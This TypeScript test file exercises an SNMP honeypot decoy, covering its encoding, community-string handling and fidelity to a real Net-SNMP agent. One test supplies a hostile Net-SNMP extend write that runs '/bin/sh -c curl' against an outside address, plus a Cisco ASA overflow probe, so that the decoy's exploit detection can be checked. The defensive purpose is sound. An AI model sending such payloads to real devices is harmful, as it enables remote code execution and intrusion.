import { execFile, spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { needTools } from '../../../test/support/need.ts';
import { freePort } from '../../../test/support/free-port.ts';
import { startDaemon } from '../../../test/support/real-daemon.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import { holdsForAnyBytes, personaWith, talk } from '../../../test/support/talk.ts';
import { berArcs, berInteger, berNumber, BerReader, berValue, readArcs } from '../../wire/ber.ts';
import { snmp } from './snmp.ts';

const run = promisify(execFile);
const agent = () =>
  personaWith({
    snmp: {
      product: 'Net-SNMP',
      version: '5.9.3',
      details: { community: 'public', description: 'Linux probe' },
    },
  });
const descr = [1, 3, 6, 1, 2, 1, 1, 1, 0];
const ask = (
  tag: number,
  arcs: readonly number[],
  community = 'public',
  version = 1,
  first = 0,
  second = 0,
  value = berValue(5),
): Uint8Array =>
  berValue(
    0x30,
    berInteger(version),
    berValue(4, Buffer.from(community)),
    berValue(
      tag,
      berInteger(77),
      berInteger(first),
      berInteger(second),
      berValue(0x30, berValue(0x30, berArcs(arcs), value)),
    ),
  );
const discovery = berValue(
  0x30,
  berInteger(3),
  berValue(0x30, berInteger(9), berInteger(65_507), berValue(4, Uint8Array.of(4)), berInteger(3)),
  berValue(
    4,
    berValue(0x30, berValue(4), berInteger(0), berInteger(0), berValue(4), berValue(4), berValue(4)),
  ),
  berValue(
    0x30,
    berValue(4),
    berValue(4),
    berValue(0xa0, berInteger(5), berInteger(0), berInteger(0), berValue(0x30)),
  ),
);

describe('basic encoding', () => {
  it('gives back numbers and names', () => {
    fc.assert(
      fc.property(fc.integer({ min: -2_147_483_648, max: 4_294_967_295 }), (value) => {
        expect(berNumber(berInteger(value).subarray(2))).toBe(value);
      }),
      { numRuns: 200 },
    );
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 0, max: 4_294_967_295 }), { maxLength: 20 }), (arcs) => {
        expect(readArcs(new BerReader(berArcs([1, 3, ...arcs])).take(6) ?? new Uint8Array(0))).toEqual([
          1,
          3,
          ...arcs,
        ]);
      }),
      { numRuns: 100 },
    );
  });
});

describe('the SNMP decoy', () => {
  it('is silent to a wrong community and says over UDP that the answer to a right one is too big', () => {
    const wrong = talk(snmp, agent(), [ask(0xa0, descr, 'private')], { transport: 'udp' });
    expect(wrong.replies).toEqual([]);
    expect(wrong.facts[0]).toEqual({
      kind: 'auth',
      service: 'snmp',
      user: '',
      method: 'password',
      password: 'private',
      accepted: false,
    });
    const right = talk(snmp, agent(), [ask(0xa0, descr)], { transport: 'udp' });
    expect(Buffer.from(right.replies[0] ?? []).toString('hex')).toContain('02014d0201010201003000');
    // A repeated question for what is not there is just as long as its answer.
    expect(
      Buffer.from(
        talk(snmp, agent(), [ask(0xa0, [1, 3, 9])], { transport: 'udp' }).replies[0] ?? [],
      ).toString('hex'),
    ).toContain('06022b098000');
  });

  it('recognises writes that run commands, and code in an index', () => {
    const extend = ask(
      0xa3,
      [1, 3, 6, 1, 4, 1, 8072, 1, 3, 2, 2, 1, 2, 1, 97],
      'public',
      1,
      0,
      0,
      berValue(4, Buffer.from('/bin/sh -c "curl http://203.0.113.9/x"')),
    );
    const { facts } = talk(snmp, agent(), [
      extend,
      ask(0xa5, [1, 3, 6, 1, 4, 1, 9, 9, 491, ...Array.from({ length: 80 }, () => 144)]),
    ]);
    expect(facts.flatMap((fact) => (fact.kind === 'exploit' ? [[fact.name, ...fact.cves]] : []))).toEqual([
      ['net-snmp-extend'],
      ['cisco-asa-snmp-overflow', 'CVE-2016-6366'],
    ]);
    expect(facts.flatMap((fact) => (fact.kind === 'command' ? (fact.urls ?? []) : []))).toEqual([
      'http://203.0.113.9/x',
    ]);
  });

  it('gives the same for any split of a stream, and no datagram a larger answer', () => {
    const parts = [
      ask(0xa0, descr),
      ask(0xa1, [1, 3]),
      ask(0xa5, [1, 3], 'public', 1, 0, 20),
      ask(0xa3, descr),
      ask(0xa1, [2, 5], 'public', 0),
      discovery,
      ask(0xa2, descr),
    ];
    holdsForAnyBytes(snmp, agent, parts);
    holdsForAnyBytes(snmp, agent, parts, { transport: 'udp' });
  });

  needTools(['snmpwalk', 'snmpget', 'snmpd'])(
    'shows the clients what the real agent shows, and the same errors',
    async () => {
      const folder = mkdtempSync(join(tmpdir(), 'snmpd-'));
      const port = await freePort();
      writeFileSync(
        join(folder, 'snmpd.conf'),
        'agentuser root\nagentgroup root\nsysLocation    Sitting on the Dock of the Bay\nsysContact     Me <me@example.org>\nsysServices    72\nview systemonly included .1.3.6.1.2.1.1\nview systemonly included .1.3.6.1.2.1.25.1\nrocommunity public default -V systemonly\n',
      );
      await using _daemon = await startDaemon(
        spawn(
          'snmpd',
          [
            '-f',
            '-C',
            '-c',
            join(folder, 'snmpd.conf'),
            '-Ln',
            '-I',
            '-smux',
            '-p',
            join(folder, 'pid'),
            `tcp:127.0.0.1:${port}`,
          ],
          { stdio: 'ignore', env: { ...process.env, SNMP_PERSISTENT_DIR: folder } },
        ),
        port,
      );
      await using served = await serveDecoy(snmp, agent());
      const ask2 = async (program: string, to: number, ...more: string[]) =>
        run(
          program,
          [...more.slice(0, -1), '-On', '-t', '2', '-r', '0', `tcp:127.0.0.1:${to}`, more.at(-1) ?? ''],
          { env: { ...process.env, SNMP_PERSISTENT_DIR: folder } },
        ).then(
          ({ stdout, stderr }) => `${stdout}${stderr}`,
          (failed: { stdout: string; stderr: string }) => `${failed.stdout}${failed.stderr}`,
        );
      /** Without what differs from machine to machine: times, names, texts of the kernel. */
      const masked = (text: string): string =>
        text
          .replaceAll(/^Created directory.*\n/gm, '')
          .replaceAll(/Timeticks: \(\d+\) .*/g, 'Timeticks')
          .replaceAll(/^(\.1\.3\.6\.1\.2\.1\.(?:1\.[15]|25\.1\.[24])\.0 = \S+).*(?:\n(?!\.)[^\n]*)*/gm, '$1')
          .replaceAll(/Gauge32: \d+/g, 'Gauge32')
          .replaceAll(/127\.0\.0\.1:\d+/g, 'host');
      const cases: readonly (readonly string[])[] = [
        ['snmpwalk', '-v2c', '-c', 'public', '.1.3.6.1.2.1'],
        ['snmpwalk', '-v1', '-c', 'public', '.1.3.6.1.2.1.1'],
        ['snmpbulkwalk', '-v2c', '-c', 'public', '-Cr20', '.1.3'],
        ['snmpget', '-v2c', '-c', 'public', '.1.3.6.1.2.1.1.7.0'],
        ['snmpget', '-v2c', '-c', 'public', '.1.3.6.1.2.1.1.7.1'],
        ['snmpget', '-v2c', '-c', 'public', '.1.3.6.1.2.1.2.1.0'],
        ['snmpget', '-v1', '-c', 'public', '.1.3.6.1.2.1.2.1.0'],
        ['snmpgetnext', '-v2c', '-c', 'public', '.1.3.6.1.4'],
        ['snmpgetnext', '-v1', '-c', 'public', '.1.3.6.1.4'],
        ['snmpget', '-v2c', '-c', 'wrong', '.1.3.6.1.2.1.1.1.0'],
        ['snmpget', '-v3', '-l', 'noAuthNoPriv', '-u', 'admin', '.1.3.6.1.2.1.1.1.0'],
      ];
      const differences: string[] = [];
      await Promise.all(
        cases.map(async ([program = '', ...more]) => {
          const [real, decoy] = [
            masked(await ask2(program, port, ...more)),
            masked(await ask2(program, served.port, ...more)),
          ];
          if (real !== decoy) differences.push(`${program} ${more.join(' ')}\n${real}\n---\n${decoy}`);
        }),
      );
      rmSync(folder, { recursive: true });
      expect(differences.join('\n')).toBe('');
      expect(served.facts).toContainEqual({
        kind: 'auth',
        service: 'snmp',
        user: 'admin',
        method: 'none',
        accepted: false,
      });
      expect(served.errors).toEqual([]);
    },
  );
});
